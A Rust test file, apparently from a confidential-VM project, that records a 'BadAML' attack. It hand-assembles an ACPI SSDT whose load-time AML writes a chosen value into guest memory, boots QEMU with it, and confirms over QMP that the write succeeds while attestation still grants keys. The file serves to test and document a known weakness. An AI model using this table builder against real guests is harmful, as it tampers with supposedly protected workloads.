//! ACPI tables of the host's own: code that the guest's kernel runs.
//!
//! Attack (issue: a hostile ACPI table, outcome recorded; peers C2: 3, "BadAML"): the host adds a table with AML
//! that stores into guest memory when the table is loaded. The launch measurement does not cover tables.
//!
//! **Recorded outcome: nothing refuses it.** The kernel runs the code before init, memory is written, the
//! measurement is the good one, keys are granted, the app starts. `LIMITATIONS.md` says so. This test fails when
//! that changes, which is when a kernel that sandboxes AML comes.

use std::{
    fs,
    io::{BufRead as _, BufReader, Write as _},
    os::unix::net::UnixStream,
    path::Path,
};

use casemate_tests::{findings::Findings, hostile::qemu_with};
use serde_json::{Value, json};

use crate::target::Target;

/// In the first megabyte, which Linux sets aside for firmware and leaves alone (`reserve_real_mode`).
const ADDRESS: u32 = 0x5000;
const WRITTEN: u32 = 0xbada_3170;

/// The app was deployed and stopped. Its disk is an old one afterwards.
pub(crate) fn attack(target: &Target, findings: &mut Findings) {
    let scratch = target.machine.scratch();
    let file = |name: &str, table: &[u8]| {
        let path = scratch.join(name);
        fs::write(&path, table).expect("scratch is writable");
        format!("file={}", path.display())
    };
    let harmless = file("harmless.aml", &table(b"HARMLESS", &name(b"HARM", WRITTEN)));
    let hostile = file("hostile.aml", &table(b"HOSTILE\0", &store(ADDRESS, WRITTEN)));
    let control = scratch.join("acpi-qmp");
    let listen = format!("unix:{},server=on,wait=off", control.display());
    let added = ["-acpitable", &harmless, "-acpitable", &hostile, "-qmp", &listen];
    let other = target.other_host("acpi", &qemu_with(scratch, "qemu-acpi", &[], &added));
    other.define("acpi", target.spec.clone());
    fs::copy(target.disk(), other.data_disk("acpi")).expect("the host owns the disks");
    let ending = other.restart("acpi");
    findings.ending("a table that stores into guest memory: not refused", &ending, "ready", "keys_granted");
    findings.same("the memory that it stores into", read_memory(&control, ADDRESS), &format!("{WRITTEN:#x}"));
    other.discard("acpi");
}

// ACPI Specification 6.5, 5.2.6 (table header) and 20.2 (AML grammar).

/// A secondary system description table with `body`.
fn table(identity: &[u8; 8], body: &[u8]) -> Vec<u8> {
    let length = 36 + u32::try_from(body.len()).expect("a small table");
    let mut table = [
        &b"SSDT"[..],
        &length.to_le_bytes(),
        &[2, 0], // revision; checksum, below
        b"CSMATE",
        identity,
        &1_u32.to_le_bytes(), // OEM revision
        b"TEST",
        &1_u32.to_le_bytes(), // creator revision
        body,
    ]
    .concat();
    let sum = table.iter().fold(0_u8, |sum, byte| sum.wrapping_add(*byte));
    table[9] = sum.wrapping_neg();
    table
}

/// `Name (NAME, value)`.
fn name(segment: &[u8; 4], value: u32) -> Vec<u8> {
    const NAME_OP: u8 = 0x08;
    [&[NAME_OP][..], segment, &dword(value)].concat()
}

/// ```asl
/// OperationRegion (MEMR, SystemMemory, address, 4)
/// Field (MEMR, DWordAcc, NoLock, Preserve) { CELL, 32 }
/// Store (value, CELL)
/// ```
/// Outside of any method, so that it runs when the table is loaded.
fn store(address: u32, value: u32) -> Vec<u8> {
    const EXTENDED: u8 = 0x5b;
    const REGION_OP: u8 = 0x80;
    const FIELD_OP: u8 = 0x81;
    const SYSTEM_MEMORY: u8 = 0x00;
    const DWORD_ACCESS: u8 = 0x03; // AccessType 3, NoLock, Preserve
    const STORE_OP: u8 = 0x70;
    const BYTE_PREFIX: u8 = 0x0a;
    // PkgLength counts itself: 1 length + 4 name + 1 flags + 4 name + 1 width.
    const FIELD_LENGTH: u8 = 11;
    [
        &[EXTENDED, REGION_OP][..],
        b"MEMR",
        &[SYSTEM_MEMORY],
        &dword(address),
        &[BYTE_PREFIX, 4],
        &[EXTENDED, FIELD_OP, FIELD_LENGTH],
        b"MEMR",
        &[DWORD_ACCESS],
        b"CELL",
        &[32], // bits
        &[STORE_OP],
        &dword(value),
        b"CELL",
    ]
    .concat()
}

fn dword(value: u32) -> Vec<u8> {
    const DWORD_PREFIX: u8 = 0x0c;
    [&[DWORD_PREFIX][..], &value.to_le_bytes()].concat()
}

/// Four bytes of guest memory, asked of QEMU's monitor.
fn read_memory(control: &Path, address: u32) -> String {
    let Ok(mut stream) = UnixStream::connect(control) else { return "QEMU is gone".into() };
    let mut answers = BufReader::new(stream.try_clone().expect("a socket can be shared")).lines();
    let mut ask = |command: Value| {
        writeln!(stream, "{command}").expect("QEMU listens");
        answers
            .by_ref()
            .map_while(Result::ok)
            .filter_map(|line| serde_json::from_str::<Value>(&line).ok())
            .find(|answer| answer.get("return").is_some())
            .expect("QEMU answers")
    };
    ask(json!({"execute": "qmp_capabilities"}));
    let line = format!("xp /1wx {address:#x}");
    let said = ask(json!({"execute": "human-monitor-command", "arguments": {"command-line": line}}));
    // `0000000000005000: 0xbada3170`
    let text = said["return"].as_str().unwrap_or_default();
    text.split(": ").nth(1).unwrap_or(text).trim().to_owned()
}
